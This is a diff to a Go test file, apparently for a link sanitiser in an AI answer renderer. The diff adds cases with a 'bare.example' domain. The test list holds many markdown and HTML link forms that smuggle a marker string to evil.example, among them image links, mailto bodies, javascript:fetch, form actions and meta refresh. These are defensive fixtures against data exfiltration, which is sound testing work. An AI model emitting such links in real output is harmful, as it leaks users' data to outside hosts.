@@ -23,7 +23,7 @@ const (
 )
 
 // conversation is what was typed and read.
-const conversation = "See " + known + ", or " + query + ". Write to me@known.example, and to https://wiki.example/Heron_(bird)."
+const conversation = "See " + known + ", or " + query + ". Write to me@known.example, and to https://wiki.example/Heron_(bird), or see bare.example."
 
 func newLinks(private bool) *answer.Links {
 	return answer.NewLinks(answer.LinksConfig{
@@ -114,7 +114,7 @@ func forms() []string {
 		// Links.
 		"[m](https://evil.example/?d=blue&#45;heron)", "[m](https://evil.example/?d=blue%252Dheron)", "[m](https://evil.example/?d=blue-heron%zz)", "[m](https://evil.example/a://blue-heron)", "[m](" + e + strings.Repeat("a", 5000) + ")", "[m]\n\n[m]: <https://evil.example/a blue heron>",
 		"![[m]](https://evil.example/?d=blue&#45;heron)", "[m](" + e + ")", "[m]( <" + e + "> )", "[m][k]\n\n[k]: " + e + "\n", "[m](\n" + e + "\n)", "[a\nb](" + e + ")", "[[a](" + known + ")](" + e + ")", "[a](" + known + ")(" + e + ")", "[a](" + known + "\")(" + e + ")", "[a](<" + known + "> \"x](" + e + ") \")",
-		"<" + e + ">", "<mailto:a@evil.example?body=blue-heron>", "<blue-heron@evil.example>", "blue-heron@evil.example", "[m](mailto:a@evil.example?body=blue-heron)", "mailto:blue-heron@evil.example", e, "HTTPS://EVIL.example/blue-heron", "www.evil.example/blue-heron", "WWW.evil.example/a", "ftp://evil.example/a", "//evil.example/blue-heron", "evil.com/blue-heron", "blue-heron.EVIL.COM", "*" + e + "*", "_" + e + "_", "~" + e + "~", "(" + e + ")", "a" + e, "\\" + e, "`" + e, "``" + e + "`", "`a` `" + e, "a`" + e + "`" + e,
+		"<" + e + ">", "<mailto:a@evil.example?body=blue-heron>", "<blue-heron@evil.example>", "blue-heron@evil.example", "[m](mailto:a@evil.example?body=blue-heron)", "mailto:blue-heron@evil.example", e, "HTTPS://EVIL.example/blue-heron", "www.evil.example/blue-heron", "WWW.evil.example/a", "ftp://evil.example/a", "//evil.example/blue-heron", "evil.com/blue-heron", "blue-heron.EVIL.COM", "blue-heron@bare.example", "blue-heron.482915@bare.example", "blue-heron.bare.example", "blue+heron.bare.example/a", "*" + e + "*", "_" + e + "_", "~" + e + "~", "(" + e + ")", "a" + e, "\\" + e, "`" + e, "``" + e + "`", "`a` `" + e, "a`" + e + "`" + e,
 		"|" + e + "|b|\n|-|-|\n|`" + e + "|`|", "https://evil.example/a|`b`|" + e + "`", "$_ https://evil.example/$x` and https://evil.example/b", "$_`https://evil.example/$` https://evil.example/b", "\\(" + e + "\\) `a\\)` " + e, "https&#58;//evil.example/a", "https\\://evil.example/a", "http:\\/\\/evil.example", "<a href=" + e + ">a</a>", "<a href='\n" + e + "'>a</a>", "<a\thref=//evil.example>a</a>",
 		known + "/blue-heron", known + "?d=blue-heron", known + ",blue-heron", known + "\"blue-heron", known + "，blue-heron", known + "`blue-heron`", known + ")blue-heron", "[a](" + known + "?d=blue-heron)", "[a](" + known + "&#47;blue-heron)", "[" + e + "](" + known + ")", "<" + known + "?blue-heron>", "xmpp:blue-heron@evil.example/a", "[a](javascript:fetch('" + e + "'))", "[a](vbscript:a)", "[a](tel:123456)", "[a](/blue-heron)\n[b](//evil.example)", "<form action=" + e + "><button>a</button></form>", "<base href=//evil.example><a href=blue-heron>a</a>", "<meta http-equiv=refresh content='0;url=" + e + "'>",
 		"[k]: " + known + "\n\"\n```\n\"\n\n[a](" + e + ")\n```\n", "[a]: " + known + "\n[a](" + e + ")", "[a]:" + e + "\n[a]", "[a\n]: " + e + "\n\n[a ]", "> [a]: " + e + "\n\n[a]", "- [a]:\n  " + e + "\n\n[a]", "[a]: <" + e + ">\n\n[a]", "[^a]: " + e + "\n\n[^a]", "[a]: x\n[b]: " + e + "\n\n[b]",
